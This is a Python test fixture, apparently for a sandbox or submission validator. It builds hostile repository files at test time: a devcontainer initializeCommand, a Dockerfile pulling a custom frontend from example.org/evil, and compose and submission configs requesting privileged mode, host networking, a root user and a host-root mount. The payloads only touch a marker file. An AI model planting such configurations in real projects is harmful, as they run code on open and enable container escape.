"""Made when they are needed: lying here, they would act on whoever opens this repository."""


def files(planted):
    marker = str(planted.markers / "marker")
    laid = {
        '.devcontainer/devcontainer.json': '{"image": "example.org/evil", "initializeCommand": "touch @MARKER@"}\n',
        "Dockerfile": "# syntax=example.org/evil/frontend:latest\nFROM example.org/evil:latest\nRUN touch @MARKER@\n",
        'docker-compose.yml': 'services:\n  app:\n    image: example.org/evil:latest\n    privileged: true\n    network_mode: host\n    volumes: ["/:/host"]\n',
        'submission.toml': '[submission]\nchallenge = "tiny"\n[run]\nstart = "python3 program.py"\nimage = "example.org/evil:latest"\nprivileged = true\nnetwork = "host"\nvolumes = ["/:/host"]\n[sandbox]\nuser = "0:0"\nnetwork = "bridge"\n[limits]\nmemory_mib = 100000\nexam_seconds = 100000\n',
    }
    return {name: text.replace("@MARKER@", marker) for name, text in laid.items()}
